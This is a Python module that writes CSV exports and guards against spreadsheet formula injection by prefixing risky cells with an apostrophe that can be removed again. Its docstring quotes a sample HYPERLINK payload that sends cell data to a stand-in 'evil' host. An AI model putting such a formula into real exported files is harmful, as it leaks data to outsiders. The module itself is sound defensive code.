"""Every CSV the platform writes goes through `write_csv`: cells a spreadsheet would run as formulas stay text.

A cell that starts with = + - @ (or a tab or carriage return before one) is a formula to Excel and
LibreOffice: `=HYPERLINK("http://evil/?"&A1,"点击")` in an item name would run on the computer of
whoever opens the open-data file. Such a text is written with a leading apostrophe, which
spreadsheets show as text. The apostrophe is added reversibly (a text that already starts with
apostrophes before a formula character gets one more), so `read_cell` gives back the exact text
and an exported file imports to the same data.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_QUOTED = re.compile(r"'*[=+\-@\t\r]")  # the texts that get (or, read back, lose) one apostrophe


def cell(value: Any) -> str:
    """One cell's text: numbers as they are, None empty, a text that could be a formula kept as text."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, (int, float)):
        return str(value)  # a negative number is a number, not a formula
    text = str(value)
    return "'" + text if _QUOTED.match(text) else text


def read_cell(text: str) -> str:
    """The text `cell` was given: drops the apostrophe that neutralised a formula."""
    if text.startswith("'") and _QUOTED.match(text):
        return text[1:]
    return text


def write_csv(rows: Iterable[Sequence[Any]], *, header: Sequence[str] | None = None) -> bytes:
    """UTF-8 with a BOM (Excel then opens the Chinese correctly), CRLF line ends, every cell through `cell`."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    if header is not None:
        writer.writerow([cell(h) for h in header])
    for row in rows:
        writer.writerow([cell(v) for v in row])
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")
